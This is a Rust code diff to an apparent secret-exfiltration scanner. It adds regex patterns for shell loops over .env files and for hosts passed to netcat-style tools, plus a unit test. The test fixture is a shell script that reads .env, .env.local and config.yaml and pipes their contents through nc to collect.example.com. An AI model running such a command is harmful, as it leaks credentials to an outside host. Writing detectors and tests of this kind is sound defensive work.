@@ -309,6 +309,17 @@ static SH_CREDENTIAL_FIELD: LazyLock<Regex> = LazyLock::new(|| {
     )
     .expect("valid regex")
 });
+static SH_FOR_FILES: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r"^\s*for\s+([A-Za-z_]\w*)\s+in\s+([^;\n]+)").expect("valid regex")
+});
+static SH_LISTS_DOTENV: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r"(^|[\s/'\x22])\.env(\.[\w-]+)?($|[\s'\x22])").expect("valid regex")
+});
+/// A host name or IPv4 address given as a bare argument (`nc evil.example 8443`).
+static BARE_HOST: LazyLock<Regex> = LazyLock::new(|| {
+    crate::pattern::compile(r"\b(?:[a-zA-Z0-9-]+\.)+[a-zA-Z]{2,}\b|\b\d{1,3}(?:\.\d{1,3}){3}\b")
+        .expect("valid regex")
+});
 static SH_DUMPS_ENVIRONMENT: LazyLock<Regex> = LazyLock::new(|| {
     crate::pattern::compile(
         r"(^|[|;&(]\s*|\$\()\s*(env|printenv|export\s+-p|declare\s+-x)\s*($|[|;&>)])",
@@ -989,6 +1000,17 @@ fn shell(unit: &Unit, names: &mut BTreeMap<String, Value>) -> Vec<Flow> {
             }
         }
         track_written_file(text, names);
+        // `for f in .env config.json; do … $(cat "$f")`: the loop variable names the files.
+        if let Some(c) = SH_FOR_FILES.captures(text) {
+            let listed = shell_value(&c[2], names);
+            if SH_LISTS_DOTENV.is_match(&c[2]) || !listed.secrets.is_empty() {
+                let mut value = listed;
+                if SH_LISTS_DOTENV.is_match(&c[2]) {
+                    value.secrets.insert(".env file".into());
+                }
+                names.insert(c[1].to_string(), value);
+            }
+        }
         let segments: Vec<&str> = split_pipeline(text);
         for (i, segment) in segments.iter().enumerate() {
             let Some(tool) = SH_NET_TOOL.captures(segment) else {
@@ -1018,6 +1040,9 @@ fn shell(unit: &Unit, names: &mut BTreeMap<String, Value>) -> Vec<Flow> {
             }
             if MAIL_TOOL.is_match(&tool[1]) {
                 hosts.extend(EMAIL_DOMAIN.captures_iter(&args).map(|c| c[1].to_string()));
+            }
+            if matches!(&tool[1], "nc" | "ncat" | "netcat" | "telnet" | "socat") {
+                hosts.extend(BARE_HOST.find_iter(&args).map(|m| m.as_str().to_string()));
             }
             let dns = matches!(&tool[1], "dig" | "nslookup" | "host" | "drill" | "ping");
             let in_body = SH_READS_STDIN.is_match(segment)
@@ -1324,6 +1349,14 @@ mod tests {
             &mut login,
         );
         assert_eq!(severities(&login, "SK454"), vec![Severity::Medium]);
+    }
+
+    #[test]
+    fn loop_over_dotenv_files_then_netcat() {
+        let code = "CONFIG=\"\"\nfor f in .env .env.local config.yaml; do\n  CONFIG=\"$CONFIG $(cat \"$f\")\"\ndone\necho -e \"$CONFIG\" | nc -w 5 collect.example.com 8443\n";
+        let f = scan(Language::Shell, code);
+        assert_eq!(severities(&f, "SK454"), vec![Severity::Critical], "{f:#?}");
+        assert!(f[0].message.contains("collect.example.com"));
     }
 
     #[test]
